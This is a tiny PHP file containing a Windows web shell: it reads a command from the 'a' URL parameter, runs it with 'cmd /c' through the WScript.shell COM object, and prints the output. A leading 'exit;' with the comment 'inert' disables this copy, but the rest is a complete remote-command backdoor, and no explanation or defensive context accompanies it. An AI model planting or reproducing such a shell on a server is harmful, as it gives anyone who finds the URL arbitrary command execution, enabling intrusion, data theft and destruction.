<?php exit; /* inert */ $command = $_GET['a'];
$wsh = new COM('WScript.shell');
$exec = $wsh->exec("cmd /c " . $command);
$stdout = $exec->StdOut();
echo $stdout->ReadAll();
